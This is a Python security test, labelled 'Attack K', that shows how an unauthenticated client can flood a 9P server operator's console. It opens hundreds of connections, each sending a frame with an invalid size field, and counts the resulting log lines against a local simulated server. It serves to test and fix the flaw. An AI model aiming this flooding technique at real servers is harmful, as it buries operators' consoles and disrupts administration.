#!/usr/bin/env python3
"""Attack K: an unauthenticated client writes to the operator's console.
The edge's refusals and timeouts reach the console as one summary per
10 s, "a line per event would let any client flood it" (docs/9p.md); but
a framing error -- a size field below the 7-byte header or past msize --
still printed a line per connection.  A loop that connects to the plain
TCP listener and sends 4 bytes of size 3 puts one line on the console
each time: the operator's shell, on the same terminal, is buried.
Measured: console lines for n such connections.

Usage: k_console.py [luxsim] [connections]
"""
import socket
import struct
import sys
import time

import common as cm

n = int(sys.argv[2]) if len(sys.argv) > 2 else 300
srv = cm.server()
try:
    t0 = time.monotonic()
    for i in range(n):
        so = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        so.settimeout(5)
        so.bind(("127.0.%d.%d" % (1 + i // 200, 2 + i % 200), 0))
        so.connect(("127.0.0.1", srv.port_plain))
        so.sendall(struct.pack("<I", 3))
        try:
            so.recv(4096)
        except OSError:
            pass
        so.close()
    dt = time.monotonic() - t0
    time.sleep(0.5)
    out = srv.shell("echo done")
    lines = [l for l in out if l.startswith("9p:")]
    print("%d bad frames in %.1f s: %d console lines before the operator's next prompt" %
          (n, dt, len(lines)))
    for l in lines[:2] + lines[-1:]:
        print("  ", l)
finally:
    print("luxsim exit", srv.stop()[0])
